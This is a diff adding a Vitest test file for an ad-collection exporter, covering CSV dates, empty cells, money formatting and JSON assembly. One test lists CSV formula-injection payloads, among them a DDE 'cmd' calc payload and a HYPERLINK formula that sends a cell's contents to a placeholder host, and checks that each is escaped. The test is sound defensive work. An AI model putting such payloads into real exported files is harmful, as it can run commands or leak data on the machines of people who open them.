@@ -1,0 +1,77 @@
+import { expect, test } from 'vitest';
+import { anAd } from '#tests/support/an-ad.ts';
+import { aSnapshot } from '#tests/support/followed-pages.ts';
+import { csvExport, jsonExport, type ExportedAd } from './ad-export.ts';
+
+const NOW = Date.UTC(2026, 10, 21, 12);
+const exported = (facts: Parameters<typeof anAd>[0] = {}, more: Partial<ExportedAd> = {}): ExportedAd => ({
+  ad: anAd(facts),
+  why: 'saved',
+  capturedAt: Date.UTC(2026, 0, 5),
+  savedAt: null,
+  reach: [],
+  ...more,
+});
+const csvOf = (...ads: ExportedAd[]): string => {
+  const writer = csvExport(NOW);
+  return writer.head(NOW) + writer.ads(ads, true) + writer.tail(ads.length);
+};
+/** By column; only for values without commas and quotes. */
+const cellsOf = (csv: string): Map<string, string | undefined> => {
+  const [head = '', line = ''] = csv.slice(1).split('\r\n');
+  const values = line.split(',');
+  return new Map(head.split(',').map((name, index) => [name, values[index]]));
+};
+
+test('a table begins with the mark of UTF-8 and has its days and moments as ISO 8601 has them', () => {
+  const cells = cellsOf(
+    csvOf(exported({ isActive: false, endDate: 1_767_945_600 }, { savedAt: Date.UTC(2026, 1, 3, 4, 5) })),
+  );
+  expect(csvOf().startsWith('\ufeffad_id,')).toBe(true);
+  expect(cells.get('start_date')).toBe('2026-01-02');
+  expect(cells.get('end_date')).toBe('2026-01-09');
+  expect(cells.get('bookmarked_at')).toBe('2026-02-03T04:05:00.000Z');
+  expect(cells.get('captured_at')).toBe('2026-01-05T00:00:00.000Z');
+});
+
+test('what was never measured is an empty cell; money has a point and two digits', () => {
+  const none = cellsOf(csvOf(exported()));
+  expect([none.get('eu_reach'), none.get('spend_eur'), none.get('spend_per_day_eur')]).toEqual(['', '', '']);
+  const measured = cellsOf(csvOf(exported({}, { reach: [aSnapshot(NOW - 1_000, { euTotal: 1_234_567 })] })));
+  expect(measured.get('eu_reach')).toBe('1234567');
+  expect(measured.get('spend_eur')).toBe('11111.10');
+});
+
+test.each([
+  '=cmd|"/C calc"!A0',
+  '+1+1',
+  '-2+3',
+  '@SUM(1+1)*cmd',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=HYPERLINK("https://example.com?x="&A1)',
+  '＝1+1',
+  "'=1+1",
+  '=1+1";=1+1',
+])('%j is a formula in no cell of the table', (text) => {
+  const csv = csvOf(exported({ text, title: text, pageName: text, linkDescription: text, ctaText: text }));
+  const line = csv.slice(csv.indexOf('\r\n') + 2, -2);
+  const cells = [...line.matchAll(/(?:"((?:[^"]|"")*)"|([^",]*))(?:,|$)/g)].map(
+    ([, quoted, plain]) => quoted ?? plain ?? '',
+  );
+  expect(cells.filter((cell) => /^[=+\-@\t\r\n＝]/.test(cell))).toEqual([]);
+  expect(cells.filter((cell) => cell.replaceAll('""', '"') === `'${text}`)).toHaveLength(5);
+});
+
+test('a JSON file is one object, whatever number of pieces it was written in', () => {
+  const [one, two] = [exported({ id: '1000001' }), exported({ id: '1000002', text: '\u2028"\\' })];
+  const text = jsonExport.head(NOW) + jsonExport.ads([one], true) + jsonExport.ads([two], false) + jsonExport.tail(2);
+  expect(JSON.parse(text)).toEqual({
+    format: 'ad-collection',
+    version: 1,
+    exportedAt: '2026-11-21T12:00:00.000Z',
+    ads: [one, two],
+    count: 2,
+  });
+  expect(JSON.parse(jsonExport.head(NOW) + jsonExport.ads([], true) + jsonExport.tail(0))).toMatchObject({ ads: [] });
+});
